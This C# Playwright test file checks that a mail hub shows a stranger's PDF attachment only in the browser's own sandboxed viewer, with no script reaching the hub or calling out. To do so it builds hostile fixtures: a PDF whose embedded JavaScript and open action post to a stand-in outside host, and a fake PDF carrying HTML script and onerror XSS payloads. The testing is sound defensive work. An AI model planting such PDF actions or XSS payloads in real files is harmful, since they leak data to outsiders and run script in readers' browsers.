using System.Collections.Concurrent;
using System.Globalization;
using System.Text;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using Postrider.Conversations;
using Postrider.IncomingMail;
using Postrider.Storage;

namespace Postrider.Journeys;

/// <summary>MIM-13, WEB-06: a stranger's PDF is opened from its message in a real browser. It is shown by the browser's own viewer, in a window that can neither reach the hub's page nor run anything of the hub's origin.</summary>
public sealed class PdfPreviewJourney : IDisposable
{
    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("postrider-journey-");

    public void Dispose() => folder.Delete(recursive: true);

    [Fact]
    public async Task A_strangers_PDF_is_shown_and_acts_on_nothing()
    {
        Assert.SkipWhen(Browser.Missing is not null, Browser.Missing ?? "");
        var cancel = TestContext.Current.CancellationToken;
        var pictures = new Pictures("pdf-preview");
        await using var hub = await Hub.StartAsync(new HubOptions { DataFolder = Path.Combine(folder.FullName, "hub"), Quiet = true }, cancel);
        var conversation = await TakeAsync(hub, cancel);
        await using var browser = await Browser.StartAsync();
        var page = await browser.NewPersonAsync();
        await new HubVisit(page, hub.Address, pictures).SetUpAsync(hub.SetupLink!, "Ann Miller", "ann@meadow.example");
        var acted = new ConcurrentQueue<string>();
        page.Context.Dialog += async (_, dialog) =>
        {
            acted.Enqueue($"dialog {dialog.Message}");
            await dialog.DismissAsync();
        };
        page.Context.Request += (_, request) =>
        {
            // The viewer is a part of the browser, with an address of its own.
            if (new Uri(request.Url) is { Scheme: "http" or "https" } url && (url.Authority != hub.Address.Authority || request.Method != "GET" && !url.AbsolutePath.EndsWith("/seen", StringComparison.Ordinal))) acted.Enqueue($"{request.Method} {url}");
        };
        await page.GotoAsync(new Uri(hub.Address, $"/conversations/{conversation}").ToString());
        await pictures.TakeAsync(page, "offered");

        foreach (var name in new[] { "offer.pdf", "page.pdf" })
        {
            var answers = new ConcurrentQueue<IResponse>();
            page.Context.Response += (_, response) =>
            {
                if (response.Url.EndsWith("/preview", StringComparison.Ordinal)) answers.Enqueue(response);
            };
            var opened = await page.RunAndWaitForPopupAsync(() => page.GetByRole(AriaRole.Link, new() { Name = "Open " + name, Exact = true }).ClickAsync());
            await opened.WaitForLoadStateAsync(LoadState.Load);

            var answer = answers.First();
            var headers = await answer.AllHeadersAsync();
            Assert.Equal(("application/pdf", "nosniff", "inline"), (headers["content-type"], headers["x-content-type-options"], headers["content-disposition"]));
            Assert.StartsWith("default-src 'none'; object-src 'self'", headers["content-security-policy"], StringComparison.Ordinal);
            // By the viewer: never as a page, whatever stands in the file behind its first bytes.
            Assert.Equal("application/pdf", await opened.EvaluateAsync<string>("document.contentType"));
            // The viewer is a part of the browser in a frame of an origin of its own.
            await ViewerAsync(opened).WaitAsync(TimeSpan.FromSeconds(60), cancel);
            // Nobody who called: what it could reach of the hub's page.
            Assert.True(await opened.EvaluateAsync<bool>("window.opener === null"));
            // And nothing of the file became a part of that window.
            Assert.Equal("0 ", await opened.EvaluateAsync<string>("document.scripts.length + ' ' + document.body.innerText.trim()"));
            // Whatever runs late would run while the file is looked at.
            await opened.EvaluateAsync("() => new Promise(done => { let n = 0; const step = () => ++n < 60 ? requestAnimationFrame(step) : done(); step(); })");
            await opened.ScreenshotAsync(new() { Path = pictures.Next("shown-" + name) });
            await opened.CloseAsync();
        }
        Assert.Empty(acted);
    }

    /// <summary>Until the viewer is there: it comes after the window has loaded.</summary>
    private static async Task ViewerAsync(IPage opened)
    {
        var there = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        opened.FrameNavigated += (_, frame) => Look(frame);
        foreach (var frame in opened.Frames) Look(frame);
        await there.Task;

        void Look(IFrame frame)
        {
            if (frame.Url.StartsWith("chrome-extension://", StringComparison.Ordinal)) there.TrySetResult();
        }
    }

    private static async Task<Guid> TakeAsync(RunningHub hub, CancellationToken cancel)
    {
        var mail = new StringBuilder("From: Mallory <mallory@example.net>\r\nTo: sales@hub.example\r\nSubject: Our offer\r\nMessage-ID: <p1@example.net>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease see the offer.\r\n");
        foreach (var (name, bytes) in new[] { ("offer.pdf", Offer()), ("page.pdf", "%PDF-1.7\n<html><body><script>alert('page')</script><img src=x onerror=\"alert('picture')\"></body></html>"u8.ToArray()) })
            mail.Append(CultureInfo.InvariantCulture, $"--b\r\nContent-Type: application/pdf; name={name}\r\nContent-Disposition: attachment; filename={name}\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(bytes, Base64FormattingOptions.InsertLineBreaks)}\r\n");
        await hub.Services.GetRequiredService<Intake>().TakeAsync([new ArrivedMail(Guid.Parse("01900000-0000-7000-8000-000000000001"), "INBOX", 1, 1, null, Encoding.UTF8.GetBytes(mail.Append("--b--\r\n").ToString()))], _ => { }, cancel);
        return (await hub.Services.GetRequiredService<HubDatabase>().ReadAsync(r => r.Query<Guid>("select id from conversation"), cancel))[0];
    }

    /// <summary>One page with a line of text, which when opened would go elsewhere and post what it knows. Chromium's viewer does run a file's own script, within its walls: an app.alert is shown; what goes out is what is looked for here.</summary>
    private static byte[] Offer()
    {
        const string Text = "BT /F1 24 Tf 72 700 Td (Forty loaves: 80.00) Tj ET";
        string[] objects =
        [
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << /S /URI /URI (http://elsewhere.example/opened) >> >> >>",
            $"<< /Length {Text.Length} >>\nstream\n{Text}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            "<< /S /JavaScript /JS (this.submitForm\\({cURL: \"http://elsewhere.example/posted\"}\\); app.launchURL\\(\"http://elsewhere.example/launched\", true\\);) >>",
        ];
        var pdf = new StringBuilder("%PDF-1.7\n");
        List<int> places = [];
        foreach (var (one, n) in objects.Select((one, n) => (one, n + 1)))
        {
            places.Add(pdf.Length);
            pdf.Append(CultureInfo.InvariantCulture, $"{n} 0 obj\n{one}\nendobj\n");
        }
        var table = pdf.Length;
        pdf.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var place in places) pdf.Append(CultureInfo.InvariantCulture, $"{place:D10} 00000 n \n");
        pdf.Append(CultureInfo.InvariantCulture, $"trailer << /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n");
        return Encoding.ASCII.GetBytes(pdf.ToString());
    }
}
